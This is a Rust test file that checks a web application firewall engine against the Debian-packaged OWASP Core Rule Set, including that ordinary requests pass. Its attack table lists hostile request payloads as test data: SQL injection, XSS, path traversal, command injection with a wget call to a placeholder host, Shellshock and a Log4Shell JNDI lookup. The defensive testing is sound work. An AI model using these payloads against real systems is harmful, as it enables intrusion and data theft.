//! The CRS 3.3.4 as Debian packages it (`modsecurity-crs`), unmodified and with its own setup: it loads,
//! sees the attacks of each of its families, and lets ordinary requests pass at paranoia level 1.
//!
//! Skipped aloud where the package is not installed, and only there.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::print_stdout,
    reason = "a test fails by panicking, and says what it skipped"
)]

mod common;

use std::path::Path;
use std::sync::Arc;

use common::begin;
use waf_rules::{Loader, RequestLine, RuleSet};

const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";
const RULES: &str = "/usr/share/modsecurity-crs/rules";

/// A target, and the family of a rule that has to match.
const ATTACKS: &[(&str, u64)] = &[
    (
        "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-",
        942,
    ),
    ("/?id=1%20AND%20SLEEP(5)", 942),
    ("/?id=1;DROP%20TABLE%20users--", 942),
    ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 941),
    ("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E", 941),
    ("/?q=javascript:alert(1)", 941),
    ("/?f=../../../../etc/passwd", 930),
    ("/?f=..%255c..%255cwindows%255cwin.ini", 930),
    ("/?u=http://10.0.0.1/shell.txt%3F", 931),
    ("/?c=;cat%20/etc/passwd", 932),
    ("/?c=%60id%60%7Cwget%20http://a.example/x", 932),
    ("/?c=()%20%7B%20:;%7D;%20/bin/bash", 932),
    ("/?p=%3C%3Fphp%20system(1);", 933),
    ("/?p=base64_decode($_GET[1])", 933),
    ("/?n=require('child_process').exec('ls')", 933),
    ("/?j=java.lang.Runtime.getRuntime()", 944),
    ("/?j=$%7Bjndi:ldap://a.example/x%7D", 932),
    ("/?s=Set-Cookie:%0d%0aset-cookie:%20a=b", 921),
];

const ORDINARY: &[&str] = &[
    "/",
    "/index.html",
    "/search?q=rust+web+application+firewall&page=2",
    "/products/42?sort=price_asc&category=books",
    "/account?name=O%27Brien&city=S%C3%A3o+Paulo",
    "/calendar?from=2026-11-01&to=2026-11-30",
    "/a/b/c.css?v=1.2.3",
    "/?note=see+you+at+7,+bring+cake",
    "/download/report%202026.pdf",
    "/?email=jane.doe%40example.com&tags=a,b,c",
];

#[test]
fn the_packaged_crs_3_sees_attacks_and_lets_ordinary_requests_pass() {
    if !Path::new(SETUP).is_file() || !Path::new(RULES).is_dir() {
        return skipped("the Debian package modsecurity-crs is not installed");
    }
    let rules = load();
    for (target, family) in ATTACKS {
        let (ids, refused) = ask(&rules, target);
        let found = ids.iter().any(|id| id / 1000 == *family);
        assert!(found && refused, "{target}: {ids:?}, refused: {refused}");
    }
    for target in ORDINARY {
        let (ids, refused) = ask(&rules, target);
        assert!(!refused, "{target}: {ids:?}");
    }
}

/// The rules; every problem with them is the engine's.
fn load() -> Arc<RuleSet> {
    let loaded = Loader::new()
        .text("engine", "SecRuleEngine On\nSecRequestBodyAccess On")
        .file(Path::new(SETUP))
        .files(&format!("{RULES}/*.conf"), true);
    match loaded.load() {
        Ok(loaded) => Arc::new(loaded.rules),
        Err(problems) => panic!("the CRS 3 does not load: {problems:#?}"),
    }
}

/// The rules that matched, and whether one refused.
fn ask(rules: &Arc<RuleSet>, target: &str) -> (Vec<u64>, bool) {
    let mut transaction = begin(rules);
    let line = RequestLine {
        method: b"GET",
        target: target.as_bytes(),
        protocol: b"HTTP/1.1",
    };
    let headers = [
        ("Host", "www.example.com"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        ("Accept", "text/html,*/*;q=0.8"),
    ];
    let headers = headers.map(|(name, value)| (name.as_bytes(), value.as_bytes()));
    let refused = transaction
        .request_headers(line, headers.into_iter())
        .is_some()
        || transaction.request_body(&[], true).is_some();
    let matches = transaction.finish().matches;
    (
        matches.iter().map(|matched| matched.rule_id).collect(),
        refused,
    )
}

fn skipped(reason: &str) {
    println!("\nskipped: crs3 ({reason})");
}
